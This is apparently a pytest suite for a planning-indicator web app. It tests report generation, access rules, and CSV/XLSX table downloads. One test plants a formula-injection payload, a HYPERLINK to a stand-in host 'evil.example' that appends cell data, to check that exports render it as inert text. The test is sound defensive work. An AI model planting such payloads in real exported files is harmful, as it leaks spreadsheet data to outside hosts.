"""Reports in the browser and table downloads (web/reports.py), over real stores.

A report is built the way a person builds it: log in, post the form, poll the status fragment htmx
polls, download; the files are opened with python-docx and openpyxl. The table downloads are read
back and compared with the page's JSON twin cell by cell.
"""

from __future__ import annotations

import csv
import io
import re
import time
from urllib.parse import quote

import pytest
from docx import Document
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from planwatch.inert_cells import text_from_csv
from planwatch.model import Observation
from planwatch.web import WebSettings, create_app
from planwatch.web import reports as reports_module

from .conftest import REGION

PASSWORD = "reports-pw-1234"
HX = {"HX-Request": "true"}


def app_over(store):
    return create_app(WebSettings(db=store.url, cache_seconds=60), store=store)


def csrf_of(html: str) -> str:
    return re.search(r'name="csrf_token" value="([^"]+)"', html)[1]


def logged_in(app, name: str) -> tuple[TestClient, str]:
    """A browser session of account ``name`` and the CSRF token of its forms."""
    client = TestClient(app)
    token = csrf_of(client.get("/login").text)
    answer = client.post("/login", data={"username": name, "password": PASSWORD, "csrf_token": token},
                         follow_redirects=False)
    assert answer.status_code == 303, answer.text
    return client, csrf_of(client.get("/").text)


def wait_for(client: TestClient, job_id: str, limit: float = 90) -> tuple[dict, list[str]]:
    """Poll the status fragment (as htmx does) until the job ends; its final JSON and the steps seen."""
    steps, deadline = [], time.monotonic() + limit
    while True:
        fragment = client.get(f"/reports/jobs/{job_id}", headers=HX)
        assert fragment.status_code == 200
        state = re.search(r'data-state="(\w+)"', fragment.text)[1]
        step = re.search(r'class="job-step" role="status">([^<]*)<', fragment.text)
        if step and step[1] not in steps:
            steps.append(step[1])
        if state in ("done", "failed"):
            assert 'hx-trigger="every 1s"' not in fragment.text  # the finished item ends the polling
            return client.get(f"/api/reports/{job_id}").json(), steps
        assert 'hx-trigger="every 1s"' in fragment.text
        assert time.monotonic() < deadline, f"report {job_id} still {state}"
        time.sleep(0.2)


def docx_text(data: bytes) -> str:
    doc = Document(io.BytesIO(data))
    cells = [c.text for t in doc.tables for row in t.rows for c in row.cells]
    return "\n".join([p.text for p in doc.paragraphs] + cells)


@pytest.fixture
def jiaxing_app(jiaxing_store):
    jiaxing_store.add_user("viewer", role="viewer", password=PASSWORD)
    return app_over(jiaxing_store)


def test_annual_report_built_from_the_page_and_downloaded(jiaxing_app):
    client, token = logged_in(jiaxing_app, "viewer")
    page = client.get("/reports")
    assert page.status_code == 200
    assert "年度监测分析报告" in page.text and "（默认 2024 年）" in page.text and "还没有生成过报告" in page.text

    started = time.monotonic()
    answer = client.post("/reports", data={"kind": "annual", "year": "", "region": "", "formats": ["docx", "xlsx"],
                                           "csrf_token": token}, follow_redirects=False)
    assert answer.status_code == 303
    job_id = answer.headers["location"].split("#job-")[1]
    listed = client.get("/reports").text
    assert f'id="job-{job_id}"' in listed and f'hx-get="/reports/jobs/{job_id}"' in listed

    job, steps = wait_for(client, job_id)
    elapsed = time.monotonic() - started
    assert job["state"] == "done", job["message"]
    assert (job["year"], job["region"], job["owner"], job["state_label"]) == (2024, "嘉兴市", "viewer", "已完成")
    assert steps and all(s.startswith("第 ") for s in steps)
    print(f"annual report docx+xlsx built in {elapsed:.1f} s, steps seen: {steps}")

    names = {f["format"]: f["name"] for f in job["files"]}
    assert names == {"docx": "嘉兴市_2024_年度监测分析报告.docx", "xlsx": "嘉兴市_2024_年度监测分析报告.xlsx"}
    fragment = client.get(f"/reports/jobs/{job_id}", headers=HX).text
    assert f'href="/reports/jobs/{job_id}/download/docx"' in fragment

    word = client.get(f"/reports/jobs/{job_id}/download/docx")
    assert word.status_code == 200
    assert word.headers["content-disposition"] == (
        "attachment; filename=\"report-2024-annual.docx\"; filename*=UTF-8''" + quote(names["docx"], safe=""))
    assert "7569.53" in docx_text(word.content)

    excel = client.get(f"/reports/jobs/{job_id}/download/xlsx")
    wb = load_workbook(io.BytesIO(excel.content))
    values = [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert "7569.53" in values or 7569.53 in values
    assert client.get(f"/reports/jobs/{job_id}/download/html").status_code == 404  # not asked for


def test_failed_build_says_why(client, web_store):
    web_store.add_user("viewer", role="viewer", password=PASSWORD)
    browser, token = logged_in(client.app, "viewer")
    answer = browser.post("/api/reports", json={"kind": "annual", "year": 2030}, headers={"X-CSRF-Token": token})
    assert answer.status_code == 202
    assert answer.json()["state"] in ("queued", "running")
    job, _ = wait_for(browser, answer.json()["id"])
    assert job["state"] == "failed" and job["files"] == []
    assert job["message"].startswith("报告年份 2030 不在规划期 2021–2025 年之内")
    fragment = browser.get(f"/reports/jobs/{job['id']}", headers=HX).text
    assert "未能生成：报告年份 2030 不在规划期 2021–2025 年之内" in fragment
    assert browser.get(f"/reports/jobs/{job['id']}/download/docx").status_code == 404

    # a final review is for the period's last year only: the report stage's rule, said in the job
    final = browser.post("/api/reports", json={"kind": "final", "year": 2024, "formats": ["xlsx"]},
                         headers={"X-CSRF-Token": token}).json()
    assert wait_for(browser, final["id"])[0]["message"] == "总结评估报告对应规划期末 2025 年，不能用于 2024 年"

    # what can be checked at once is refused at once, naming the field
    bad = browser.post("/reports", data={"kind": "weekly", "formats": ["docx"], "csrf_token": token})
    assert bad.status_code == 400 and "未知的报告类型“weekly”" in bad.text
    bad = browser.post("/reports", data={"kind": "annual", "year": "二〇二四", "formats": ["docx"], "csrf_token": token})
    assert bad.status_code == 400 and "年份“二〇二四”无效" in bad.text
    bad = browser.post("/reports", data={"kind": "annual", "region": "杭州市", "formats": ["docx"], "csrf_token": token})
    assert bad.status_code == 400 and "地区“杭州市”不在可选地区中" in bad.text
    bad = browser.post("/reports", data={"kind": "annual", "csrf_token": token})
    assert bad.status_code == 400 and "未选择任何格式" in bad.text
    bad = browser.post("/api/reports", json={"formats": ["pdf"]}, headers={"X-CSRF-Token": token})
    assert (bad.status_code, bad.json()["code"]) == (400, "invalid_request")
    # without the form's token nothing is queued
    assert browser.post("/api/reports", json={}).status_code == 403
    assert len(browser.get("/api/reports").json()["jobs"]) == 2


def test_who_may_build_and_download(client, web_store):
    web_store.add_user("viewer", role="viewer", password=PASSWORD)
    web_store.add_user("other", role="viewer", password=PASSWORD)
    web_store.add_user("planner", role="planner", password=PASSWORD)
    web_store.add_user("reporter", role="reporter", unit="嘉兴市统计局", password=PASSWORD)
    app = client.app

    # anonymous in public mode: tables yes, reports no
    assert client.get("/table.csv").status_code == 200
    assert client.get("/indicators/T2-1/table.xlsx").status_code == 200
    page = client.get("/reports", follow_redirects=False)
    assert (page.status_code, page.headers["location"]) == (303, "/login?next=%2Freports")
    assert client.post("/api/reports", json={}).status_code == 401
    assert client.get("/api/reports").status_code == 401

    reporter, token = logged_in(app, "reporter")
    assert reporter.get("/reports").status_code == 403
    refused = reporter.post("/api/reports", json={}, headers={"X-CSRF-Token": token})
    assert refused.status_code == 403 and "不能生成和下载报告" in refused.json()["error"]
    assert reporter.get("/table.csv").status_code == 200

    viewer, token = logged_in(app, "viewer")
    job = viewer.post("/api/reports", json={"formats": ["xlsx"]}, headers={"X-CSRF-Token": token}).json()
    done, _ = wait_for(viewer, job["id"])
    assert done["state"] == "done", done["message"]
    url = done["files"][0]["url"]
    assert viewer.get(url).status_code == 200

    other, _ = logged_in(app, "other")
    refused = other.get(url)
    assert refused.status_code == 403 and "只有生成者本人或规划处账号" in refused.text
    assert other.get(f"/api/reports/{job['id']}").status_code == 403
    assert other.get("/api/reports").json()["jobs"] == []

    planner, _ = logged_in(app, "planner")
    assert planner.get(url).status_code == 200
    assert [j["id"] for j in planner.get("/api/reports").json()["jobs"]] == [job["id"]]
    assert planner.get("/api/reports/unknown").status_code == 404


def test_finished_jobs_are_kept_for_a_count(client, web_store, monkeypatch):
    monkeypatch.setattr(reports_module, "JOBS_KEPT", 1)
    web_store.add_user("viewer", role="viewer", password=PASSWORD)
    browser, token = logged_in(client.app, "viewer")
    first = browser.post("/api/reports", json={"year": 2030}, headers={"X-CSRF-Token": token}).json()
    wait_for(browser, first["id"])
    second = browser.post("/api/reports", json={"year": 2031}, headers={"X-CSRF-Token": token}).json()
    wait_for(browser, second["id"])
    assert [j["id"] for j in browser.get("/api/reports").json()["jobs"]] == [second["id"]]
    gone = browser.get(f"/api/reports/{first['id']}")
    assert gone.status_code == 404 and "可能已过期" in gone.json()["error"]


# ---------------------------------------------------------------- table downloads


def csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith("\ufeff".encode())  # the BOM: Excel reads the file as UTF-8
    return [[text_from_csv(c) for c in row] for row in csv.reader(io.StringIO(data.decode("utf-8-sig")))]


def test_dashboard_table_equals_the_api(client):
    for query in ("year=2024", "year=2022&region=南湖区&method=open_sdg"):
        api = client.get(f"/api/findings?{query}").json()
        expected = [[f["category_label"], f["no"] or "", f["indicator"], f["attribute_label"], f["unit"] or "",
                     f["baseline_display"], f["target_display"], f["actual_display"], f["completion_display"],
                     f["status_text"], f["warning_label"] if f["warning"] else "", f["explanation"] or ""]
                    for f in api["findings"]]
        answer = client.get(f"/table.csv?{query}")
        assert answer.headers["content-type"] == "text/csv; charset=utf-8"
        rows = csv_rows(answer.content)
        assert rows[0] == list(reports_module.DASHBOARD_HEADERS)
        assert rows[1:] == expected

        book = client.get(f"/table.xlsx?{query}")
        assert book.content == client.get(f"/table.xlsx?{query}").content  # the same bytes every time
        ws = load_workbook(io.BytesIO(book.content)).worksheets[0]
        cells = [[c if c is not None else "" for c in row] for row in ws.iter_rows(values_only=True)]
        assert cells[1:] == expected

    gdp = csv_rows(client.get("/table.csv?year=2024").content)[1]
    assert gdp[2] == "地区生产总值" and gdp[7:10] == ["7569.5", "64.7%", "滞后"]
    answer = client.get("/table.csv?year=2024")
    assert answer.headers["content-disposition"] == (
        "attachment; filename=\"indicators-2024.csv\"; filename*=UTF-8''" + quote("嘉兴市_2024_主要指标完成情况.csv"))
    assert client.get("/table.pdf").status_code == 404
    assert client.get("/table.csv?year=2040").status_code == 400


def test_indicator_tables_equal_the_api_and_stay_inert(client, web_store):
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"点此")'
    web_store.add_observations([Observation(indicator="T2-3", region=REGION, year=2023, value=73.1, unit="%",
                                            source=hostile, note="+1 与上年比较", vintage="preliminary")])
    api = client.get("/api/indicators/T2-3?year=2023").json()
    parsed = csv_rows(client.get("/indicators/T2-3/table.csv?year=2023").content)
    assert [parsed[0], parsed[parsed.index([]) + 1]] == [["评估结果"], ["实际数据"]]
    assert parsed[-len(api["observations"][-1]["revisions"]) - 2:][0] != []
    assert ["修订记录"] in parsed
    obs_start = parsed.index(["实际数据"]) + 2
    obs = parsed[obs_start:obs_start + len(api["observations"])]
    assert obs == [[str(o["year"]), o["value_display"], o["unit"] or "", o["vintage_display"], o["source"] or "",
                    o["note"] or ""] for o in api["observations"]]
    assert obs[-1] == ["2023", "73.1", "%", "初步数", hostile, "+1 与上年比较"]
    f = api["findings"][0]
    assert parsed[2] == [f["target_text"], f["status_text"], f["warning_label"] if f["warning"] else "",
                         f["outlook_label"] or "", f["actual_display"], f["completion_display"],
                         f["explanation"] or f["status_explanation"]]

    raw = client.get("/indicators/T2-3/table.csv?year=2023").content.decode("utf-8-sig")
    assert "'=HYPERLINK" in raw and "'+1 与上年比较" in raw  # a spreadsheet shows them as text

    book = client.get("/indicators/T2-3/table.xlsx?year=2023")
    wb = load_workbook(io.BytesIO(book.content))
    assert wb.sheetnames == ["评估结果", "实际数据", "修订记录"]
    cell = next(c for row in wb["实际数据"].iter_rows() for c in row if c.value == hostile)
    assert cell.data_type == "s"  # a string cell: never evaluated as a formula
    assert [r[1] for r in wb["实际数据"].iter_rows(min_row=2, values_only=True)] == ["71.9", "72.4", "73.1"]
    assert client.get("/indicators/T9-9/table.csv").status_code == 404


def test_pages_link_their_tables(client):
    dash = client.get("/?year=2024").text
    assert 'href="/table.csv?year=2024&amp;region=%E5%98%89%E5%85%B4%E5%B8%82&amp;method=elapsed_time"' in dash
    page = client.get("/indicators/T2-1?year=2024").text
    assert 'href="/indicators/T2-1/table.xlsx?year=2024&amp;' in page


def test_reports_api_in_the_schema(client):
    paths = client.get("/api/openapi.json").json()["paths"]
    assert {"get", "post"} <= set(paths["/api/reports"]) and "get" in paths["/api/reports/{job_id}"]
    assert "202" in paths["/api/reports"]["post"]["responses"]
    assert not any(p.startswith(("/reports", "/table")) for p in paths)
